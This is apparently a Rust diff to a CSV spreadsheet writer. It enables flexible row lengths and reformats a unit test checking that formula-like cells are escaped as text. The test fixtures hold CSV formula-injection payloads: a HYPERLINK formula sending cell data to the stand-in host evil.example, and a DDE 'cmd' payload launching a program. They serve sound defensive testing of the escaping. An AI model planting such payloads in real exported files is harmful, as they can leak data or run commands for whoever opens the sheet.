@@ -21,7 +21,7 @@ impl Default for SheetWriter {
 
 impl SheetWriter {
     pub fn new() -> Self {
-        Self { out: csv::Writer::from_writer(Vec::new()) }
+        Self { out: csv::WriterBuilder::new().flexible(true).from_writer(Vec::new()) }
     }
 
     /// Writes one row; every cell is passed through [`cell`].
@@ -65,13 +65,16 @@ mod tests {
     #[test]
     fn formula_cells_are_written_as_text_and_numbers_as_numbers() {
         let mut w = SheetWriter::new();
-        w.row(["=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]).unwrap();
+        w.row(["=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
+            .unwrap();
         w.row(["\tx", "\rx", "-5", "+2", "1.5", "Ann", "O'Neil"]).unwrap();
         let text = String::from_utf8(w.finish().unwrap()).unwrap();
-        let mut lines = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
-        let rows: Vec<Vec<String>> =
-            lines.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
-        assert_eq!(rows[0], ["'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)"]);
+        let mut lines = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
+        let rows: Vec<Vec<String>> = lines.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
+        assert_eq!(
+            rows[0],
+            ["'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)"]
+        );
         assert_eq!(rows[1], ["'\tx", "'\rx", "-5", "+2", "1.5", "Ann", "O'Neil"]);
     }
 
